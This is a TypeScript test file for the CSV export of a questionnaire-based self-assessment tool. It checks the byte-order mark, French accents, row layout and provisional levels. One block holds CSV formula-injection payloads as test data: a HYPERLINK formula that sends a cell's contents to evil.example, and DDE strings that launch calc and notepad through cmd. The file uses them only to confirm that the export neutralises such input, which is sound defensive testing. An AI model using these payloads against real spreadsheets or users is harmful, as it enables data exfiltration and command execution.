import { beforeEach, describe, expect, it } from 'vitest';
import { loadQuestionnaire } from '../../../src/content/catalog';
import { assessTeam } from '../../../src/engine/aggregate';
import type { Answers } from '../../../src/engine/answer';
import { assess } from '../../../src/engine/assess';
import { cycleCsv } from '../../../src/features/transfer/cycle-csv';
import { loadI18n } from '../../../src/lib/i18n';
import { parseCsv } from '../../../src/lib/csv';
import type { Cycle } from '../../../src/domain/cycle';
import type { Response } from '../../../src/domain/response';
import { getAnswers, listResponses } from '../../../src/storage/responses';
import { freshDatabase } from '../../support/app';
import { exampleAnswers, seedCycle } from '../../support/cycle-fixture';
import { everyThird, extremeAnswers } from '../../support/content';
import { cycleWithAnswers } from '../../support/cycle-with-answers';
import { frenchTypography } from '../../../src/lib/typography';

const MATURITY = 'digital-maturity';

async function csvFor(language: 'en' | 'fr') {
  const { cycle } = await seedCycle();
  const questionnaire = await loadQuestionnaire('cybersecurity-baseline', '1.0.0');
  const responses = await listResponses(cycle.id);
  const individuals = await Promise.all(
    responses.map(async (response) => {
      const answers = await getAnswers(response.id);
      return { response, answers };
    }),
  );
  const team = assessTeam(
    questionnaire,
    individuals.map((i) => i.answers),
  );
  const i18n = await loadI18n(language, ['transfer']);
  return cycleCsv(
    cycle,
    [
      {
        questionnaire,
        result: team.consensus,
        individuals: individuals.map((i, n) => ({ ...i, result: team.individuals[n]! })),
      },
    ],
    i18n.getFixedT(language, ['transfer', 'common']),
    language,
  );
}

/** The CSV of one digital maturity response with the best answer to every third question. */
async function provisionalCsv(language: 'en' | 'fr') {
  const questionnaire = await loadQuestionnaire(MATURITY, '1.0.0');
  const answers = extremeAnswers(questionnaire, true, everyThird);
  const { cycle, responses } = await cycleWithAnswers(
    [MATURITY],
    [{ questionnaireId: MATURITY, answers }],
  );
  const result = assess(questionnaire, answers);
  const i18n = await loadI18n(language, ['transfer']);
  const csv = cycleCsv(
    cycle,
    [{ questionnaire, result, individuals: [{ response: responses[0]!, answers, result }] }],
    i18n.getFixedT(language, ['transfer', 'common']),
    language,
  );
  const rows = parseCsv(csv, language === 'fr' ? ';' : ',');
  const column = (name: string) => rows[0]!.indexOf(name);
  return { questionnaire, result, rows, column };
}

describe('CSV export of a cycle', () => {
  beforeEach(() => {
    freshDatabase();
  });

  it('starts with a byte-order mark so Excel reads UTF-8, and keeps French accents through a round trip', async () => {
    const csv = await csvFor('fr');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(csv, ';');
    const header = rows[0]!;
    expect(header).toContain('Répondant');
    const note = header.indexOf('Note');
    const noted = rows.find((row) => row[note] === 'Vérifier avec Hélène « TI » ; urgent !');
    expect(noted).toBeDefined();
    expect(rows.some((row) => row.includes('Autoévaluation annuelle 2026'))).toBe(true);
    expect(rows.some((row) => row.includes('Équipe (consensus)'))).toBe(true);
  });

  it('has one overall row and one row per dimension for the team and for each respondent, then the answers', async () => {
    const rows = parseCsv(await csvFor('en'));
    const type = rows[0]!.indexOf('Type');
    const respondent = rows[0]!.indexOf('Respondent');
    const overall = rows
      .filter((row) => row[type] === 'Overall score')
      .map((row) => row[respondent]);
    expect(overall).toEqual(['Team (consensus)', 'Directrice générale', 'Adjointe administrative']);
    expect(rows.filter((row) => row[type] === 'Dimension score')).toHaveLength(3 * 14);
    expect(rows.filter((row) => row[type] === 'Answer').length).toBeGreaterThan(60);
    expect(new Set(rows.map((row) => row.length)).size).toBe(1);
  });

  it('gives a provisional result no level, only the answers it still needs, and keeps scores numbers', async () => {
    const { questionnaire, result, rows, column } = await provisionalCsv('en');
    const type = column('Type');
    const overall = rows.find((row) => row[type] === 'Overall score')!;
    expect(overall[column('Score (0-100)')]).toBe('100');
    expect(overall[column('Level')]).toBe(
      `Provisional: answer ${result.overall.missingForLevel} more questions to get a level`,
    );
    const dimensions = rows.filter((row) => row[type] === 'Dimension score');
    expect(dimensions).toHaveLength(9);
    for (const row of dimensions) {
      expect(row[column('Level')]).toMatch(
        /^Provisional: answer \d+ more questions to get a level$/,
      );
    }
    const labels = questionnaire.definition.levels.map((level) => level.label.en);
    expect(rows.flat().filter((cell) => labels.includes(cell))).toEqual([]);
  });

  it('says the same in French', async () => {
    const { rows, column } = await provisionalCsv('fr');
    const overall = rows.find((row) => row[column('Type')] === 'Note globale')!;
    expect(overall[column('Niveau')]).toBe(
      frenchTypography('Provisoire : répondez à 23 autres questions pour obtenir un niveau'),
    );
  });
});

describe('CSV export of typed text', () => {
  const hostile = {
    cycle: '=HYPERLINK("http://evil.example/?"&A1,"Report")',
    respondent: "@SUM(1+1)*cmd|' /C calc'!A0",
    note: "  -2+3+cmd|' /C notepad'!A0",
  };

  async function hostileCsv(language: 'en' | 'fr') {
    const questionnaire = await loadQuestionnaire('cybersecurity-baseline', '1.0.0');
    const answers = {
      ...exampleAnswers('cybersecurity-baseline', 'small-rural-centre'),
      'device-count': { value: 14 },
      'mfa-email': { value: 'no', note: hostile.note },
    } satisfies Answers;
    const result = assess(questionnaire, answers);
    const stamp = '2026-03-02T15:30:00.000-05:00';
    const response: Response = {
      id: 'r1',
      cycleId: 'c1',
      questionnaireId: 'cybersecurity-baseline',
      version: '1.0.0',
      contentHash: questionnaire.contentHash,
      respondent: hostile.respondent,
      startedAt: stamp,
      updatedAt: stamp,
      origin: 'imported',
    };
    const cycle: Cycle = {
      id: 'c1',
      name: hostile.cycle,
      createdAt: stamp,
      updatedAt: stamp,
      questionnaires: [{ id: 'cybersecurity-baseline', version: '1.0.0' }],
      targets: {},
    };
    const i18n = await loadI18n(language, ['transfer']);
    return cycleCsv(
      cycle,
      [{ questionnaire, result, individuals: [{ response, answers, result }] }],
      i18n.getFixedT(language, ['transfer', 'common']),
      language,
    );
  }

  it.each(['en', 'fr'] as const)(
    'neutralises a hostile cycle name, respondent name and note, so no cell starts a formula (%s)',
    async (language) => {
      const separator = language === 'fr' ? ';' : ',';
      const rows = parseCsv(await hostileCsv(language), separator);
      const cells = rows.flat();
      expect(cells.filter((cell) => /^\s*[=+\-@\t\r\n]/.test(cell))).toEqual([]);
      expect(cells).toContain(`'${hostile.cycle}`);
      expect(cells).toContain(`'${hostile.respondent}`);
      expect(cells).toContain(`'${hostile.note}`);
      expect(new Set(rows.map((row) => row.length)).size).toBe(1);
    },
  );

  it('writes scores, coverage and a number answer as plain numbers', async () => {
    const csv = await hostileCsv('en');
    const rows = parseCsv(csv);
    const header = rows[0]!;
    const answerColumn = header.indexOf('Answer');
    const deviceRow = rows.find((row) => row[header.indexOf('Question id')] === 'device-count');
    expect(deviceRow?.[answerColumn]).toBe('14');
    const scores = rows.slice(1).map((row) => row[header.indexOf('Score (0-100)')] ?? '');
    expect(
      scores.filter((score) => score !== '').every((score) => /^\d+(\.\d+)?$/.test(score)),
    ).toBe(true);
    expect(csv).toContain(',14,');
  });
});
